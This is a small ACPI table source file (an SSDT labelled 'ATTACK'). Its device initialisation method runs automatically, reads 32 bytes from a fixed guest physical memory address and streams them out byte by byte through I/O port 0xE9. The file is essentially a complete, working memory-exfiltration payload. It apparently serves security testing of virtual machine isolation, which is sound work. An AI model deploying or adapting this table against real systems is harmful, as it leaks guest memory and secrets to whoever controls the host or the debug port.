// Reads a page of the guest's memory and sends it out by an I/O port.
DefinitionBlock ("", "SSDT", 2, "ATTACK", "READ", 1)
{
    Device (\_SB.ATRD)
    {
        Name (_HID, "ATCK0001")
        OperationRegion (PORT, SystemIO, 0xE9, 1)
        Field (PORT, ByteAcc, NoLock, Preserve) { OUTB, 8 }
        OperationRegion (PAGE, SystemMemory, 0x18000000, 0x20)
        Field (PAGE, ByteAcc, NoLock, Preserve) { SECR, 256 }

        Method (_INI, 0, Serialized)
        {
            OUTB = 0x72 // r: it runs
            Local0 = SECR
            Local1 = 0
            While (Local1 < 0x20)
            {
                OUTB = DerefOf (Local0 [Local1])
                Local1++
            }
            OUTB = 0x52 // R: it has read
        }
    }
}
